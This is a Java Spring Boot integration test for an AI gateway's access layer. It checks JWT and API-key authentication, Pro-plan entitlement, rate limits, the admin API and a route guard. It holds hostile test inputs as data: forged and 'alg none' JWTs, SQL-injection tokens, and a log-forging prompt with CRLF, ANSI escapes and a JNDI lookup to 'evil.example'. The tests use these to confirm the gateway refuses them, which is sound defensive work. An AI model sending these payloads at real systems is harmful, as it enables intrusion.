package ai.gateway.api.access;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Date;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.function.Consumer;

import ai.gateway.api.TestCredentials;
import ai.gateway.api.TestCredentials.NewKey;
import ai.gateway.api.TestPostgres;
import ai.gateway.api.generate.TestWorker;
import ai.gateway.api.ratelimit.RateLimiter;
import ai.gateway.api.TestHttp;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jwt.JWTClaimsSet;
import org.awaitility.core.ConditionTimeoutException;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.ApplicationContext;
import org.springframework.core.io.buffer.DataBuffer;
import org.springframework.core.io.buffer.DataBufferUtils;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.kafka.test.EmbeddedKafkaKraftBroker;
import org.springframework.r2dbc.core.DatabaseClient;
import org.springframework.test.annotation.DirtiesContext;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.test.web.reactive.server.EntityExchangeResult;
import org.springframework.test.web.reactive.server.WebTestClient;
import org.springframework.web.reactive.function.client.WebClient;
import org.springframework.web.reactive.function.server.HandlerFunction;
import org.springframework.web.reactive.function.server.RequestPredicate;
import org.springframework.web.reactive.function.server.RequestPredicates;
import org.springframework.web.reactive.function.server.RouterFunction;
import org.springframework.web.reactive.function.server.RouterFunctions;
import org.springframework.web.reactive.function.server.support.RouterFunctionMapping;
import org.springframework.web.reactive.result.method.annotation.RequestMappingHandlerMapping;
import reactor.core.Disposable;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Authentication, the entitlement, the admin API, the limits and the route guard on one real gateway
 * (embedded PostgreSQL, KRaft broker, a test worker). Limits here: 25 creations an hour per user, so a
 * test can spend a user's whole budget directly through the {@link RateLimiter} bean.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT, properties = {
    "gateway.rate-limit.windows[0].period=1h", "gateway.rate-limit.windows[0].limit=25"})
@ActiveProfiles("test")
@DirtiesContext
@ExtendWith(OutputCaptureExtension.class)
class AccessIT {

  private static final int LIMIT = 25;
  private static final String BODY = "{\"prompt\":\"Say hello\"}";
  // With the usage aggregator's tables too, as in production: the route guard reads usage routes for real.
  private static final TestPostgres.Database DATABASE = TestPostgres.newDatabase().withUsageTables();
  private static EmbeddedKafkaKraftBroker broker;
  private static @Nullable TestWorker worker;

  @LocalServerPort
  int port;

  @Autowired
  RateLimiter limiter;

  @Autowired
  StreamSlots slots;

  @Autowired
  DatabaseClient db;

  @Autowired
  ApplicationContext context;

  @Autowired
  JsonMapper json;

  private WebTestClient client;

  @BeforeAll
  static void startBroker() {
    broker = new EmbeddedKafkaKraftBroker(1, 3);
    broker.afterPropertiesSet();
  }

  @DynamicPropertySource
  static void properties(DynamicPropertyRegistry registry) {
    registry.add("spring.kafka.bootstrap-servers", () -> broker.getBrokersAsString());
    DATABASE.register(registry);
  }

  @AfterAll
  static void stopBroker() throws InterruptedException {
    if (worker != null) {
      worker.close();
      worker = null;
    }
    broker.destroy();
  }

  @BeforeEach
  void setUp() {
    client = TestHttp.bindToServer().baseUrl("http://localhost:" + port).responseTimeout(Duration.ofSeconds(20)).build();
    if (worker == null) {
      worker = new TestWorker(broker.getBrokersAsString());
    }
  }

  // --- authentication (ATTACKS 9–14)

  @Test
  void shouldAnswer401WithAChallengeWithoutCredentialsOrWithAnotherScheme() {
    for (String path : List.of("/v1/generate", "/v1/generate/stream")) {
      String requestId = requestId();
      JsonNode problem = problem(client.post().uri(path).contentType(MediaType.APPLICATION_JSON)
          .header("X-Request-Id", requestId).bodyValue(BODY).exchange(), 401, "UNAUTHENTICATED");
      assertThat(problem.get("requestId").asString()).isEqualTo(requestId);
      assertNotPublished(requestId);
    }
    EntityExchangeResult<byte[]> basic = client.post().uri("/v1/generate").contentType(MediaType.APPLICATION_JSON)
        .header(HttpHeaders.AUTHORIZATION, "Basic dXNlcjpwYXNz").bodyValue(BODY).exchange()
        .expectStatus().isUnauthorized().expectBody().returnResult();
    assertThat(basic.getResponseHeaders().getFirst(HttpHeaders.WWW_AUTHENTICATE)).startsWith("Bearer realm=");
  }

  @Test
  void shouldRefuseAKeyInTheQueryStringAndNeverLogIt(CapturedOutput output) {
    String user = newUser("pro");
    NewKey key = TestCredentials.createKey(client, user);

    for (String header : new String[] {null, "Bearer " + key.key()}) {
      String requestId = requestId();
      WebTestClient.RequestBodySpec request = client.post().uri("/v1/generate?api_key=" + key.key())
          .contentType(MediaType.APPLICATION_JSON).header("X-Request-Id", requestId);
      if (header != null) {
        request = request.header(HttpHeaders.AUTHORIZATION, header);
      }
      JsonNode problem = problem(request.bodyValue(BODY).exchange(), 401, "UNAUTHENTICATED");
      assertThat(problem.get("detail").asString()).contains("not accepted in the URL");
      assertNotPublished(requestId);
    }
    assertThat(output.getAll()).doesNotContain(key.key());
  }

  @Test
  void shouldAuthenticateAJwtAndAttributeTheJobToItsSubject() {
    String user = newUser("pro");
    String requestId = requestId();

    client.post().uri("/v1/generate").contentType(MediaType.APPLICATION_JSON)
        .header(HttpHeaders.AUTHORIZATION, "Bearer " + TestCredentials.jwt(user))
        .header("X-Request-Id", requestId).bodyValue(BODY).exchange()
        .expectStatus().isOk()
        .expectBody().jsonPath("$.content").isEqualTo("Hello, world");

    await().atMost(Duration.ofSeconds(10)).until(() -> worker().sawRequest(requestId));
    assertThat(worker().jobs).filteredOn(job -> requestId.equals(job.getRequestId()))
        .singleElement().satisfies(job -> assertThat(job.getUserId()).isEqualTo(user));
  }

  @Test
  void shouldRefuseExpiredForgedAndMisaddressedJwts() throws Exception {
    String user = newUser("pro");
    Instant now = Instant.now();
    JWTClaimsSet valid = new JWTClaimsSet.Builder().subject(user).issuer(TestCredentials.ISSUER)
        .audience(TestCredentials.AUDIENCE).expirationTime(Date.from(now.plusSeconds(600))).build();
    byte[] secret = TestCredentials.JWT_SECRET.getBytes(StandardCharsets.UTF_8);
    Map<String, String> tokens = Map.of(
        "expired beyond the leeway", jwt(user, c -> c.issueTime(Date.from(now.minusSeconds(600)))
            .expirationTime(Date.from(now.minusSeconds(90)))),
        "not valid before a future time", jwt(user, c -> c.notBeforeTime(Date.from(now.plusSeconds(300)))),
        "wrong issuer", jwt(user, c -> c.issuer("https://evil.example")),
        "wrong audience", jwt(user, c -> c.audience("another-api")),
        "bad signature", TestCredentials.sign(new JWSHeader(JWSAlgorithm.HS256), valid,
            "some-other-secret-that-is-long-enough-0123".getBytes(StandardCharsets.UTF_8)),
        "alg none", unsigned(valid),
        "unknown crit", TestCredentials.sign(new JWSHeader.Builder(JWSAlgorithm.HS256).criticalParams(Set.of("x-unknown"))
            .customParam("x-unknown", true).build(), valid, secret),
        "HS384", TestCredentials.sign(new JWSHeader(JWSAlgorithm.HS384), valid, (TestCredentials.JWT_SECRET + "-padding").getBytes()));

    List<String> requestIds = new ArrayList<>();
    tokens.forEach((name, token) -> {
      String requestId = requestId();
      requestIds.add(requestId);
      EntityExchangeResult<byte[]> result = client.post().uri("/v1/generate").contentType(MediaType.APPLICATION_JSON)
          .header(HttpHeaders.AUTHORIZATION, "Bearer " + token).header("X-Request-Id", requestId).bodyValue(BODY).exchange()
          .expectStatus().value(status -> assertThat(status).as(name).isEqualTo(401))
          .expectBody().returnResult();
      assertThat(result.getResponseHeaders().getFirst(HttpHeaders.WWW_AUTHENTICATE)).as(name).contains("error=\"invalid_token\"");
      assertProblemBody(result, 401, "UNAUTHENTICATED");
    });
    assertNotPublished(requestIds.toArray(String[]::new));
  }

  @Test
  void shouldAnswer400ForCredentialsOfTwoUsersInOneRequest() {
    String alice = newUser("pro");
    String bob = newUser("pro");
    NewKey bobsKey = TestCredentials.createKey(client, bob);

    String requestId = requestId();
    problem(client.post().uri("/v1/generate").contentType(MediaType.APPLICATION_JSON).header("X-Request-Id", requestId)
        .header(HttpHeaders.AUTHORIZATION, "Bearer " + TestCredentials.jwt(alice), "Bearer " + bobsKey.key())
        .bodyValue(BODY).exchange(), 400, "INVALID_REQUEST");
    String secondId = requestId();
    problem(client.post().uri("/v1/generate").contentType(MediaType.APPLICATION_JSON).header("X-Request-Id", secondId)
        .header(HttpHeaders.AUTHORIZATION, "Bearer " + TestCredentials.jwt(alice)).header("X-API-Key", bobsKey.key())
        .bodyValue(BODY).exchange(), 400, "INVALID_REQUEST");
    assertNotPublished(requestId);
    assertNotPublished(secondId);
  }

  @Test
  void shouldCreateUseListAndRevokeAnApiKey() {
    String user = newUser("pro");
    NewKey key = TestCredentials.createKey(client, user);
    assertThat(key.key()).matches("aig_[A-Za-z0-9_-]{43}");

    // used
    String requestId = requestId();
    client.post().uri("/v1/generate").contentType(MediaType.APPLICATION_JSON).header("X-Request-Id", requestId)
        .header(HttpHeaders.AUTHORIZATION, "Bearer " + key.key()).bodyValue(BODY).exchange()
        .expectStatus().isOk();
    await().atMost(Duration.ofSeconds(10)).until(() -> worker().sawRequest(requestId));
    assertThat(worker().jobs).filteredOn(job -> requestId.equals(job.getRequestId()))
        .singleElement().satisfies(job -> assertThat(job.getUserId()).isEqualTo(user));

    // listed without the secret
    byte[] listing = client.get().uri("/admin/users/{id}/api-keys", user)
        .header(HttpHeaders.AUTHORIZATION, "Bearer " + TestCredentials.ADMIN_TOKEN).exchange()
        .expectStatus().isOk().expectBody().returnResult().getResponseBodyContent();
    JsonNode keys = json.readTree(listing);
    assertThat(keys.isArray()).isTrue();
    assertThat(keys.get(0).get("id").asString()).isEqualTo(key.id());
    assertThat(keys.get(0).get("prefix").asString()).isEqualTo(key.key().substring(0, 8));
    assertThat(keys.get(0).has("key")).isFalse();
    assertThat(new String(listing, StandardCharsets.UTF_8)).doesNotContain(key.key());

    // revoked: refused at once on this instance (other instances: within the cache TTL, see SharedLimiterIT)
    TestCredentials.revokeKey(client, key.id());
    problem(client.post().uri("/v1/generate").contentType(MediaType.APPLICATION_JSON)
        .header(HttpHeaders.AUTHORIZATION, "Bearer " + key.key()).bodyValue(BODY).exchange(), 401, "UNAUTHENTICATED");
    TestCredentials.revokeKey(client, key.id()); // again: harmless
    client.get().uri("/admin/users/{id}/api-keys", user).header(HttpHeaders.AUTHORIZATION, "Bearer " + TestCredentials.ADMIN_TOKEN)
        .exchange().expectBody().jsonPath("$[0].revokedAt").isNotEmpty();

    // never issued, and SQL in a token
    for (String token : List.of(ApiKeys.generate(), "' OR '1'='1", "aig_' OR '1'='1", "aig_short")) {
      problem(client.post().uri("/v1/generate").contentType(MediaType.APPLICATION_JSON)
          .header(HttpHeaders.AUTHORIZATION, "Bearer " + token).bodyValue(BODY).exchange(), 401, "UNAUTHENTICATED");
    }
  }

  @Test
  void shouldRefuseWorkWithoutAiAccessPublishNothingAndLeaveTheLimitUntouched() {
    String user = newUser("free");
    NewKey key = TestCredentials.createKey(client, user);
    List<String> requestIds = new ArrayList<>();

    for (int i = 0; i < LIMIT + 5; i++) {
      String requestId = requestId();
      requestIds.add(requestId);
      String path = i % 2 == 0 ? "/v1/generate" : "/v1/generate/stream";
      // an invalid body too: the entitlement is checked before validation
      String body = i % 3 == 0 ? "{\"prompt\":\"hi\",\"maxTokens\":0}" : BODY;
      JsonNode problem = problem(client.post().uri(path).contentType(MediaType.APPLICATION_JSON).header("X-Request-Id", requestId)
          .header(HttpHeaders.AUTHORIZATION, "Bearer " + key.key()).bodyValue(body).exchange(), 403, "ENTITLEMENT_REQUIRED");
      assertThat(problem.get("detail").asString()).isEqualTo("AI access requires Pro subscription");
    }
    assertNotPublished(requestIds.toArray(String[]::new));

    // upgraded: works at once on this instance, with the whole budget
    TestCredentials.setPlan(client, user, "pro");
    client.post().uri("/v1/generate").contentType(MediaType.APPLICATION_JSON)
        .header(HttpHeaders.AUTHORIZATION, "Bearer " + key.key()).bodyValue(BODY).exchange()
        .expectStatus().isOk();
    assertThat(admittedOf(user, LIMIT)).isEqualTo(LIMIT - 1);
  }

  @Test
  void shouldTreatAJwtSubjectWithoutAUserAsAUserWithoutAPlan() {
    problem(client.post().uri("/v1/generate").contentType(MediaType.APPLICATION_JSON)
        .header(HttpHeaders.AUTHORIZATION, "Bearer " + TestCredentials.jwt("nobody-" + UUID.randomUUID()))
        .bodyValue(BODY).exchange(), 403, "ENTITLEMENT_REQUIRED");
  }

  @Test
  void shouldRefuseADisabledUsersKeysAndTokensWithinTheCacheTtl() {
    String user = newUser("pro");
    NewKey key = TestCredentials.createKey(client, user);
    client.post().uri("/v1/generate").contentType(MediaType.APPLICATION_JSON)
        .header(HttpHeaders.AUTHORIZATION, "Bearer " + key.key()).bodyValue(BODY).exchange().expectStatus().isOk();

    db.sql("update users set disabled = true where id = :id").bind("id", user).fetch().rowsUpdated().block(Duration.ofSeconds(5));

    for (String bearer : List.of(key.key(), TestCredentials.jwt(user))) {
      await().atMost(Duration.ofSeconds(5)).untilAsserted(() -> client.post().uri("/v1/generate")
          .contentType(MediaType.APPLICATION_JSON).header(HttpHeaders.AUTHORIZATION, "Bearer " + bearer)
          .bodyValue(BODY).exchange().expectStatus().isUnauthorized()
          .expectBody().jsonPath("$.detail").isEqualTo("The account is disabled."));
    }
  }

  // --- limits

  @Test
  void shouldAnswer429WithRetryAfterFromTheLimiterAndPublishNothing() {
    String user = newUser("pro");
    assertThat(admittedOf(user, LIMIT)).isEqualTo(LIMIT);
    String requestId = requestId();

    EntityExchangeResult<byte[]> result = client.post().uri("/v1/generate").contentType(MediaType.APPLICATION_JSON)
        .header(HttpHeaders.AUTHORIZATION, "Bearer " + TestCredentials.jwt(user)).header("X-Request-Id", requestId)
        .bodyValue(BODY).exchange()
        .expectStatus().isEqualTo(429)
        .expectBody().returnResult();

    JsonNode problem = assertProblemBody(result, 429, "RATE_LIMITED");
    assertThat(problem.get("retryable").asBoolean()).isTrue();
    assertThat(problem.has("provider")).isFalse();
    assertThat(problem.get("detail").asString()).isEqualTo("Too many requests: at most 25 per hour.");
    assertThat(Long.parseLong(result.getResponseHeaders().getFirst(HttpHeaders.RETRY_AFTER))).isBetween(3_500L, 3_600L);
    // validation comes before the limit: a bad request is still a 400
    problem(client.post().uri("/v1/generate").contentType(MediaType.APPLICATION_JSON)
        .header(HttpHeaders.AUTHORIZATION, "Bearer " + TestCredentials.jwt(user))
        .bodyValue("{\"prompt\":\"hi\",\"maxTokens\":4097}").exchange(), 400, "INVALID_REQUEST");
    assertNotPublished(requestId);
  }

  @Test
  void shouldCapOpenStreamsPerUserAndFreeTheSlotsAfterDisconnects() {
    String user = newUser("pro");
    String bearer = "Bearer " + TestCredentials.createKey(client, user).key();
    List<Disposable> streams = new ArrayList<>();
    List<String> firstChunks = new java.util.concurrent.CopyOnWriteArrayList<>();
    WebClient web = TestHttp.webClient("http://localhost:" + port);
    try {
      // given: 20 streams, each past its first chunk, then silent (the worker never finishes them)
      for (int i = 0; i < 20; i++) {
        streams.add(web.post().uri("/v1/generate/stream").header(HttpHeaders.AUTHORIZATION, bearer)
            .contentType(MediaType.APPLICATION_JSON).bodyValue("{\"prompt\":\"scenario:slow\"}")
            .retrieve().bodyToFlux(DataBuffer.class)
            .subscribe(buffer -> {
              firstChunks.add(buffer.toString(StandardCharsets.UTF_8));
              DataBufferUtils.release(buffer);
            }));
      }
      await().atMost(Duration.ofSeconds(8)).until(() -> slots.openStreams(user) == 20
          && firstChunks.stream().filter(text -> text.contains("event:chunk")).count() >= 20);

      // when: one more
      JsonNode problem = problem(client.post().uri("/v1/generate/stream").header(HttpHeaders.AUTHORIZATION, bearer)
          .contentType(MediaType.APPLICATION_JSON).bodyValue("{\"prompt\":\"scenario:slow\"}").exchange(), 429, "RATE_LIMITED");

      // then: refused, and it cost no request of the 25 (20 streams + 5 left)
      assertThat(problem.get("detail").asString()).contains("at most 20");
      assertThat(slots.openStreams(user)).isEqualTo(20);
      assertThat(admittedOf(user, LIMIT)).isEqualTo(LIMIT - 20);
    } finally {
      streams.forEach(Disposable::dispose);
    }
    await().atMost(Duration.ofSeconds(5)).until(() -> slots.openStreams(user) == 0);
  }

  // --- admin API

  @Test
  void shouldRefuseTheAdminApiWithoutTheAdminToken() {
    String user = newUser("pro");
    NewKey key = TestCredentials.createKey(client, user);
    for (String bearer : new String[] {null, "wrong-token-0123456789", key.key(), TestCredentials.jwt(user)}) {
      WebTestClient.RequestBodySpec create = client.post().uri("/admin/users").contentType(MediaType.APPLICATION_JSON);
      WebTestClient.RequestHeadersSpec<?> list = client.get().uri("/admin/users/{id}/api-keys", user);
      WebTestClient.RequestHeadersSpec<?> revoke = client.delete().uri("/admin/api-keys/{id}", key.id());
      if (bearer != null) {
        create = create.header(HttpHeaders.AUTHORIZATION, "Bearer " + bearer);
        list = list.header(HttpHeaders.AUTHORIZATION, "Bearer " + bearer);
        revoke = revoke.header(HttpHeaders.AUTHORIZATION, "Bearer " + bearer);
      }
      problem(create.bodyValue("{\"plan\":\"pro\"}").exchange(), 401, "UNAUTHENTICATED");
      problem(list.exchange(), 401, "UNAUTHENTICATED");
      problem(revoke.exchange(), 401, "UNAUTHENTICATED");
    }
    // the key survived all that
    client.post().uri("/v1/generate").contentType(MediaType.APPLICATION_JSON)
        .header(HttpHeaders.AUTHORIZATION, "Bearer " + key.key()).bodyValue(BODY).exchange().expectStatus().isOk();
  }

  @Test
  void shouldCreateAndUpdateUsersAndValidateAdminInput() {
    WebTestClient admin = client.mutate().defaultHeader(HttpHeaders.AUTHORIZATION, "Bearer " + TestCredentials.ADMIN_TOKEN).build();
    String id = "admin-it-" + UUID.randomUUID();

    admin.post().uri("/admin/users").contentType(MediaType.APPLICATION_JSON)
        .bodyValue("{\"id\":\"" + id + "\",\"email\":\"a@example.com\",\"plan\":\"free\"}").exchange()
        .expectStatus().isCreated()
        .expectBody().jsonPath("$.id").isEqualTo(id).jsonPath("$.email").isEqualTo("a@example.com")
        .jsonPath("$.plan").isEqualTo("free").jsonPath("$.createdAt").isNotEmpty();
    admin.post().uri("/admin/users").contentType(MediaType.APPLICATION_JSON)
        .bodyValue("{\"id\":\"" + id + "\",\"plan\":\"pro\"}").exchange()
        .expectStatus().isOk()
        .expectBody().jsonPath("$.plan").isEqualTo("pro").jsonPath("$.email").isEqualTo("a@example.com");
    admin.put().uri("/admin/users/{id}/plan", id).contentType(MediaType.APPLICATION_JSON).bodyValue("{\"plan\":\"free\"}").exchange()
        .expectStatus().isOk().expectBody().jsonPath("$.plan").isEqualTo("free");
    admin.post().uri("/admin/users").contentType(MediaType.APPLICATION_JSON).bodyValue("{\"plan\":\"pro\"}").exchange()
        .expectStatus().isCreated().expectBody().jsonPath("$.id").value(generated -> assertThat(generated.toString()).hasSize(36));

    assertInvalid(admin.post().uri("/admin/users").contentType(MediaType.APPLICATION_JSON)
        .bodyValue("{\"id\":\"bad id\\r\\nx\",\"plan\":\"pro\"}").exchange(), "id");
    assertInvalid(admin.post().uri("/admin/users").contentType(MediaType.APPLICATION_JSON)
        .bodyValue("{\"id\":\"x\",\"plan\":\"platinum\"}").exchange(), "plan");
    assertInvalid(admin.post().uri("/admin/users").contentType(MediaType.APPLICATION_JSON)
        .bodyValue("{\"id\":\"x\"}").exchange(), "plan");
    assertInvalid(admin.post().uri("/admin/users").contentType(MediaType.APPLICATION_JSON)
        .bodyValue("{\"id\":\"x\",\"plan\":\"pro\",\"role\":\"admin\"}").exchange(), "role");
    assertInvalid(admin.post().uri("/admin/users").contentType(MediaType.APPLICATION_JSON)
        .bodyValue("{\"id\":\"x\",\"plan\":\"pro\",\"email\":\"not an address\"}").exchange(), "email");
    assertInvalid(admin.put().uri("/admin/users/{id}/plan", id).contentType(MediaType.APPLICATION_JSON)
        .bodyValue("{\"plan\":\"platinum\"}").exchange(), "plan");

    problem(admin.put().uri("/admin/users/{id}/plan", "no-such-user").contentType(MediaType.APPLICATION_JSON)
        .bodyValue("{\"plan\":\"pro\"}").exchange(), 404, "NOT_FOUND");
    problem(admin.post().uri("/admin/users/{id}/api-keys", "no-such-user").exchange(), 404, "NOT_FOUND");
    problem(admin.get().uri("/admin/users/{id}/api-keys", "no-such-user").exchange(), 404, "NOT_FOUND");
    problem(admin.delete().uri("/admin/api-keys/{id}", UUID.randomUUID()).exchange(), 404, "NOT_FOUND");
    problem(admin.delete().uri("/admin/api-keys/{id}", "not-a-uuid").exchange(), 404, "NOT_FOUND");
  }

  // --- the route guard

  /**
   * Every {@code /v1} route the gateway serves, found from its handler mappings (annotated controllers and
   * router functions), must answer 401 without credentials; a route that creates work for a Pro user
   * with budget must refuse a Free user (403) and a Pro user without budget (429), publishing nothing; and a
   * route that does not create work must refuse neither of them (it needs authentication only). A route
   * added later that skips {@link WorkAdmission}, or a read that checks the entitlement or spends the
   * budget, fails here.
   */
  @Test
  void everyV1RouteShouldNeedAuthenticationAndCreateWorkOnlyWithEntitlementAndBudget() {
    List<Route> routes = v1Routes();
    assertThat(routes).extracting(Route::toString).contains("POST /v1/generate", "POST /v1/generate/stream",
        "GET /v1/providers", "GET /v1/usage", "GET /v1/usage/daily");
    String pro = newUser("pro");
    String proKey = TestCredentials.createKey(client, pro).key();
    String freeKey = TestCredentials.createKey(client, newUser("free")).key();
    String exhausted = newUser("pro");
    String exhaustedKey = TestCredentials.createKey(client, exhausted).key();
    assertThat(admittedOf(exhausted, LIMIT)).isEqualTo(LIMIT);
    List<String> mustNotPublish = new ArrayList<>();
    Set<String> creating = new LinkedHashSet<>();

    for (Route route : routes) {
      String anonymous = requestId();
      EntityExchangeResult<byte[]> refused = call(route, null, anonymous).expectBody().returnResult();
      assertThat(refused.getStatus().value()).as("%s without credentials", route).isEqualTo(401);
      assertThat(refused.getResponseHeaders().getFirst(HttpHeaders.WWW_AUTHENTICATE)).as("%s", route).startsWith("Bearer");
      assertProblemBody(refused, 401, "UNAUTHENTICATED");
      mustNotPublish.add(anonymous);

      String control = requestId();
      call(route, proKey, control).expectBody().returnResult();
      if (route.toString().equals("POST /v1/batches")) {
        // creates work that the feeder publishes later, on ai.batch-jobs: refused as every creation is
        assertThat(call(route, freeKey, requestId()).expectBody().returnResult().getStatus().value())
            .as("%s for a Free user", route).isEqualTo(403);
        assertThat(call(route, exhaustedKey, requestId()).expectBody().returnResult().getStatus().value())
            .as("%s for a user without budget", route).isEqualTo(429);
        creating.add(route.toString()); // the control call spent one of the Pro user's budget
        continue;
      }
      if (!published(control)) {
        // the route does not create work: authentication is all it needs, so neither plan nor budget matters
        for (String bearer : List.of(freeKey, exhaustedKey)) {
          EntityExchangeResult<byte[]> read = call(route, bearer, requestId()).expectBody().returnResult();
          assertThat(read.getStatus().value()).as("%s for a Free user or one without budget", route)
              .isNotIn(401, 403, 429).isLessThan(500);
        }
        continue;
      }
      creating.add(route.toString());

      String free = requestId();
      EntityExchangeResult<byte[]> forbidden = call(route, freeKey, free).expectBody().returnResult();
      assertThat(forbidden.getStatus().value()).as("%s for a Free user", route).isEqualTo(403);
      assertProblemBody(forbidden, 403, "ENTITLEMENT_REQUIRED");
      mustNotPublish.add(free);

      String overLimit = requestId();
      EntityExchangeResult<byte[]> limited = call(route, exhaustedKey, overLimit).expectBody().returnResult();
      assertThat(limited.getStatus().value()).as("%s over the limit", route).isEqualTo(429);
      assertProblemBody(limited, 429, "RATE_LIMITED");
      mustNotPublish.add(overLimit);
    }

    assertThat(creating).contains("POST /v1/generate", "POST /v1/generate/stream")
        .doesNotContain("GET /v1/providers", "GET /v1/usage", "GET /v1/usage/daily");
    assertThat(admittedOf(pro, LIMIT)).as("reads spent none of the budget; creations one each").isEqualTo(LIMIT - creating.size());
    assertNotPublished(mustNotPublish.toArray(String[]::new));
  }

  // --- ATTACKS 46

  @Test
  void shouldAcceptLogForgingTextInAPromptWithoutItReachingTheLog(CapturedOutput output) {
    String user = newUser("pro");
    String forged = "12:00:00.000 ERROR [main] ai.gateway FORGED-LOG-LINE";
    String prompt = "hi\\r\\n" + forged + " ${jndi:ldap://evil.example/x} \\u001b[31mred\\u001b[0m";

    client.post().uri("/v1/generate").contentType(MediaType.APPLICATION_JSON)
        .header(HttpHeaders.AUTHORIZATION, "Bearer " + TestCredentials.jwt(user))
        .bodyValue("{\"prompt\":\"" + prompt + "\"}").exchange()
        .expectStatus().isOk();
    problem(client.post().uri("/v1/generate").contentType(MediaType.APPLICATION_JSON)
        .header(HttpHeaders.AUTHORIZATION, "Bearer " + TestCredentials.jwt(user))
        .bodyValue("{\"prompt\":\"hi\",\"model\":\"gpt\\u001b[31m\\r\\n" + forged + "\"}").exchange(), 400, "INVALID_REQUEST");

    assertThat(output.getAll()).doesNotContain("FORGED-LOG-LINE", "evil.example");
  }

  // --- helpers

  private record Route(HttpMethod method, String pattern) {

    String uri() {
      return pattern.replaceAll("\\{\\*[^}]+}", "x").replaceAll("\\{[^}]+}", UUID.randomUUID().toString());
    }

    @Override
    public String toString() {
      return method.name() + " " + pattern;
    }
  }

  private List<Route> v1Routes() {
    List<Route> routes = new ArrayList<>();
    context.getBeansOfType(RequestMappingHandlerMapping.class).values().forEach(mapping ->
        mapping.getHandlerMethods().keySet().forEach(info -> info.getPatternsCondition().getPatterns().forEach(pattern -> {
          Set<org.springframework.web.bind.annotation.RequestMethod> methods = info.getMethodsCondition().getMethods();
          for (var method : methods.isEmpty() ? Set.of(org.springframework.web.bind.annotation.RequestMethod.GET) : methods) {
            routes.add(new Route(method.asHttpMethod(), pattern.getPatternString()));
          }
        })));
    context.getBeansOfType(RouterFunctionMapping.class).values().forEach(mapping -> {
      RouterFunction<?> functions = mapping.getRouterFunction();
      if (functions != null) {
        functions.accept(new RouteCollector(routes));
      }
    });
    return routes.stream().filter(route -> route.pattern().equals("/v1") || route.pattern().startsWith("/v1/")).distinct().toList();
  }

  /** Router functions' routes; a predicate this cannot read fails the test rather than letting a route go unchecked. */
  private static final class RouteCollector implements RouterFunctions.Visitor, RequestPredicates.Visitor {

    private final List<Route> routes;
    private final List<HttpMethod> methods = new ArrayList<>();
    private final List<String> paths = new ArrayList<>();

    RouteCollector(List<Route> routes) {
      this.routes = routes;
    }

    @Override
    public void route(RequestPredicate predicate, HandlerFunction<?> handler) {
      methods.clear();
      paths.clear();
      predicate.accept(this);
      for (String path : paths) {
        for (HttpMethod method : methods.isEmpty() ? List.of(HttpMethod.GET, HttpMethod.POST) : methods) {
          routes.add(new Route(method, path));
        }
      }
    }

    @Override
    public void startNested(RequestPredicate predicate) {
      throw new AssertionError("nested router functions: extend the route test to read them");
    }

    @Override
    public void endNested(RequestPredicate predicate) {
    }

    @Override
    public void resources(java.util.function.Function<org.springframework.web.reactive.function.server.ServerRequest,
        reactor.core.publisher.Mono<org.springframework.core.io.Resource>> lookupFunction) {
    }

    @Override
    public void attributes(Map<String, Object> attributes) {
    }

    @Override
    public void unknown(RouterFunction<?> routerFunction) {
      throw new AssertionError("unreadable router function " + routerFunction);
    }

    @Override
    public void method(Set<HttpMethod> httpMethods) {
      methods.addAll(httpMethods);
    }

    @Override
    public void path(String pattern) {
      paths.add(pattern);
    }

    @Override
    public void pathExtension(String extension) {
    }

    @Override
    public void header(String name, String value) {
    }

    @Override
    public void queryParam(String name, String value) {
    }

    @Override
    public void version(String version) {
    }

    @Override
    public void startAnd() {
    }

    @Override
    public void and() {
    }

    @Override
    public void endAnd() {
    }

    @Override
    public void startOr() {
    }

    @Override
    public void or() {
    }

    @Override
    public void endOr() {
    }

    @Override
    public void startNegate() {
    }

    @Override
    public void endNegate() {
    }

    @Override
    public void unknown(RequestPredicate predicate) {
      throw new AssertionError("unreadable request predicate " + predicate);
    }
  }

  private WebTestClient.ResponseSpec call(Route route, @Nullable String bearer, String requestId) {
    WebTestClient.RequestBodySpec request = client.method(route.method()).uri(route.uri())
        .header("X-Request-Id", requestId).accept(MediaType.ALL);
    if (bearer != null) {
      request = request.header(HttpHeaders.AUTHORIZATION, "Bearer " + bearer);
    }
    if (route.method() == HttpMethod.POST || route.method() == HttpMethod.PUT || route.method() == HttpMethod.PATCH) {
      String body = route.uri().equals("/v1/batches") ? "{\"requests\":[{\"custom_id\":\"a\",\"body\":" + BODY + "}]}" : BODY;
      return request.contentType(MediaType.APPLICATION_JSON).bodyValue(body).exchange();
    }
    return request.exchange();
  }

  private boolean published(String requestId) {
    try {
      // Work is published before the answer, so once it is in, the worker sees it within a poll or two.
      await().atMost(Duration.ofSeconds(2)).until(() -> worker().sawRequest(requestId));
      return true;
    } catch (ConditionTimeoutException e) {
      return false;
    }
  }

  /** Spends the user's budget through the limiter: how many of {@code attempts} it admits. */
  private int admittedOf(String user, int attempts) {
    int admitted = 0;
    for (int i = 0; i < attempts + 1; i++) {
      if (Boolean.TRUE.equals(limiter.tryAcquire(user).map(decision -> decision.admitted()).block(Duration.ofSeconds(5)))) {
        admitted++;
      }
    }
    return admitted;
  }

  private String newUser(String plan) {
    String id = plan + "-" + UUID.randomUUID();
    TestCredentials.createUser(client, id, plan);
    return id;
  }

  private static String requestId() {
    return "access-it-" + UUID.randomUUID();
  }

